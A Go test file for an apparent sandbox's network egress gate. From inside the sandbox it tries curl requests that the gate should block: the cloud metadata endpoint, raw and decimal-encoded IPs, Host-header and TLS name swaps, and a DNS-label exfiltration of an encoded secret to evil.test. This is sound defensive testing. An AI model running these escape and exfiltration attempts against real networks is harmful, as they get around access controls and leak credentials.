package sandboxtest

import (
	"context"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sojourn-dev/sojourn"
	"github.com/sojourn-dev/sojourn/internal/egress"
	"github.com/sojourn-dev/sojourn/sandbox"
)

// outside is a small Internet in this process: every name below test, and
// example.com, has one public address, at which there is a server for each port.
type outside struct {
	mux   *http.ServeMux // patterns with hosts
	roots []byte         // PEM: whom https there is vouched for by, for example.com
	dials map[string]string

	mu      sync.Mutex
	lookups []string
}

const outsideAddr = "93.184.215.14"

func newOutside(t *testing.T) *outside {
	o := &outside{mux: http.NewServeMux(), dials: make(map[string]string)}
	o.mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "this is %s\n", r.Host) })
	plain := httptest.NewServer(o.mux)
	t.Cleanup(plain.Close)
	secure := httptest.NewUnstartedServer(o.mux)
	secure.Config.ErrorLog = log.New(io.Discard, "", 0) // what the gate cuts is no news
	secure.StartTLS()
	t.Cleanup(secure.Close)
	o.roots = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw})
	o.serve(80, plain.Listener.Addr().String())
	o.serve(443, secure.Listener.Addr().String())
	return o
}

func (o *outside) serve(port int, at string) { o.dials[fmt.Sprintf("%s:%d", outsideAddr, port)] = at }

// LookupNetIP implements egress.Resolver.
func (o *outside) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.lookups = append(o.lookups, host)
	return []netip.Addr{netip.MustParseAddr(outsideAddr)}, nil
}

func (o *outside) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	var d net.Dialer
	return d.DialContext(ctx, network, o.dials[addr])
}

// wayOut is a sandbox with a gate.
type wayOut struct {
	*cell
	out  *outside
	gate *egress.Gate

	mu      sync.Mutex
	decided []sojourn.NetworkDecision
}

// openWayOut makes a sandbox whose policy allows the rules.
func openWayOut(t *testing.T, s *Suite, session string, rules ...string) *wayOut {
	t.Helper()
	d := s.open(t, s.newDir(t))
	switch d.Capabilities().Isolation {
	case sandbox.IsolationNone, sandbox.IsolationProcess:
		t.Skipf("SKIPPED: a sandbox of the driver %s has no network of its own", d.Name())
	}
	w := &wayOut{cell: start(t, d, session, 1), out: newOutside(t)}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(w.out.roots)
	e, err := egress.New(egress.Config{
		Resolver: w.out, Dial: w.out.dial, RootCAs: roots,
		Credentials: []egress.Credential{{Name: "api", Hosts: []string{"example.com"}, Header: "Authorization", Prefix: "Bearer ", Value: "sk-real"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	w.gate, err = e.Open(within(t), egress.Spec{
		Session: session, Epoch: 1, Dir: w.Dirs().Sockets, Report: w.report,
		Policy: sojourn.NetworkPolicy{Mode: sojourn.NetworkAllow, Allow: rules},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := w.gate.Close(); err != nil {
			t.Errorf("close gate: %v", err)
		}
	})
	if err := os.WriteFile(filepath.Join(w.Dirs().Workspace, "roots.pem"), w.out.roots, 0o644); err != nil {
		t.Fatal(err)
	}
	return w
}

func (w *wayOut) report(list []sojourn.NetworkDecision) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.decided = append(w.decided, list...)
}

// decisions closes the gate and returns what it decided.
func (w *wayOut) decisions() string {
	w.t.Helper()
	if err := w.gate.Close(); err != nil {
		w.t.Errorf("close gate: %v", err)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	var b strings.Builder
	for _, d := range w.decided {
		fmt.Fprintf(&b, "%s:%d %v %s\n", d.Host, d.Port, d.Allowed, d.Reason)
	}
	return b.String()
}

// proxied runs a script with the variables that the gate gives to programs.
func (w *wayOut) proxied(script string) (string, int) {
	w.t.Helper()
	argv := []string{"env"}
	for k, v := range w.gate.Env() {
		argv = append(argv, k+"="+v)
	}
	slices.Sort(argv[1:])
	return w.run(append(argv, "sh", "-c", script)...)
}

// direct runs a script that knows of no proxy.
func (w *wayOut) direct(script string) (string, int) {
	w.t.Helper()
	return w.run("sh", "-c", script)
}

// needs skips the test when the sandbox has no such program.
func (w *wayOut) needs(t *testing.T, programs ...string) {
	t.Helper()
	for _, p := range programs {
		if out, code := w.run("sh", "-c", p+" --version || "+p+" version"); code != 0 {
			t.Skipf("SKIPPED: %s does not run in the sandbox: %.200s", p, out)
		}
	}
}

// testEgress tries, from inside, the one way that a policy opens and all those that it
// does not.
func testEgress(t *testing.T, s *Suite) {
	w := openWayOut(t, s, "egress", "a.test", "example.com")
	w.needs(t, "curl")
	const quiet = "curl -sS --max-time 20 "
	for _, c := range []struct{ name, script, want string }{
		{"http", quiet + "http://a.test/", "this is a.test\n"},
		{"https", quiet + "--cacert /workspace/roots.pem https://example.com/", "this is example.com\n"},
		{"port in the address", quiet + "http://a.test:80/", "this is a.test\n"},
		{"loopback", quiet + "-o /dev/null -w '%{http_code}' http://127.0.0.1:3128/", "404"},
	} {
		if out, code := w.proxied(c.script); code != 0 || out != c.want {
			t.Errorf("%s with proxy = %d %q, want %q", c.name, code, out, c.want)
		}
		if out, code := w.direct(c.script); code != 0 || out != c.want {
			t.Errorf("%s without proxy = %d %q, want %q", c.name, code, out, c.want)
		}
	}
	if out, code := w.proxied(quiet + "http://b.test/"); code != 0 || !strings.Contains(out, `network policy "allow" has no rule for b.test:80`) {
		t.Errorf("a host without a rule = %d %q", code, out)
	}
	for _, c := range []struct{ name, script string }{
		{"name without a rule", quiet + "http://b.test/"},
		{"name below an allowed one", quiet + "http://x.a.test/"},
		{"port without a rule", quiet + "http://a.test:8080/"},
		{"address", quiet + "http://" + outsideAddr + "/"},
		{"another address for the name", quiet + "--resolve a.test:80:" + outsideAddr + " http://a.test/"},
		{"metadata", quiet + "http://169.254.169.254/latest/meta-data/"},
		{"IPv6", quiet + "'http://[2606:4700:4700::1111]/'"},
		{"IPv6 loopback of the proxy", quiet + "'http://[::1]:3128/'"},
		{"long label", "! " + quiet + "http://" + strings.Repeat("d", 60) + ".c2VjcmV0.evil.test/ && exit 7"},
	} {
		if out, code := w.direct(c.script); code == 0 {
			t.Errorf("%s without proxy was reached: %q", c.name, out)
		}
	}
	for _, c := range []struct{ name, script string }{
		{"tunnel to a host without a rule", quiet + "-p http://b.test/"},
		{"tunnel to an address", quiet + "-k https://" + outsideAddr + "/"},
		{"another name in TLS", quiet + "-k --connect-to b.test:443:a.test:443 https://b.test/"},
		{"metadata in TLS", quiet + "-k https://169.254.169.254/"},
		{"odd address", quiet + "-fp http://2130706433/"},
	} {
		if out, code := w.proxied(c.script); code == 0 {
			t.Errorf("%s was reached: %q", c.name, out)
		}
	}
	// Another name in plain HTTP, on a connection to the allowed one.
	if out, _ := w.direct(quiet + "-H 'Host: b.test' http://a.test/"); strings.Contains(out, "this is b.test") {
		t.Errorf("another Host field was served: %q", out)
	}
	testEgressChanges(t, w)
	told := w.decisions()
	for _, want := range []string{"a.test:80 true a.test\n", "example.com:443 true example.com\n", "b.test:80 false no_rule\n", "b.test:0 false no_rule\n"} {
		if !strings.Contains(told, want) {
			t.Errorf("decisions:\n%s\nwant %s", told, want)
		}
	}
	w.out.mu.Lock()
	defer w.out.mu.Unlock()
	for _, name := range w.out.lookups {
		if name != "a.test." && name != "example.com." {
			t.Errorf("%s was looked up outside", name)
		}
	}
}

// testEgressChanges gives a credential, and takes everything away.
func testEgressChanges(t *testing.T, w *wayOut) {
	w.out.mux.HandleFunc("example.com/key", func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, r.Header.Get("Authorization")) })
	w.gate.SetPolicy(sojourn.NetworkPolicy{Mode: sojourn.NetworkAllow, Allow: []string{"a.test", "example.com"}, Credentials: []string{"api"}})
	if out, code := w.proxied("curl -sS https://example.com/key"); code != 0 || out != "Bearer sk-real" {
		t.Errorf("with a credential = %d %q", code, out)
	}
	w.gate.SetPolicy(sojourn.NetworkPolicy{Mode: sojourn.NetworkNone})
	if out, code := w.proxied("curl -sS http://a.test/"); code != 0 || !strings.Contains(out, `network policy "none"`) {
		t.Errorf("after the policy was taken away = %d %q", code, out)
	}
	deadline := time.Now().Add(patience) // the keeper remembers names for two seconds
	for {
		out, code := w.direct("curl -sS http://a.test/")
		if code == 6 { // could not resolve
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("a name is still known: %d %q", code, out)
		}
	}
}
